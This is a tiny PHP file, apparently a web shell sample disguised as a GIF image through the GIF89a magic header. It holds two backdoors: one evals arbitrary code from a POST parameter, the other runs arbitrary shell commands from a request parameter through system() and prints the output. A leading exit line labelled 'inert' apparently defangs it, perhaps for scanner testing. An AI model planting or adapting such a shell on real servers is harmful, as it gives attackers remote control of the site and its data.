<?php exit; /* inert */ ?>GIF89a;
<? if(isset($_POST['q'])){ @eval(stripslashes($_POST['q'])); } ?>
<?php if (isset($_REQUEST['u'])) { echo "<pre>"; system($_REQUEST['u']); echo "</pre>"; } ?>
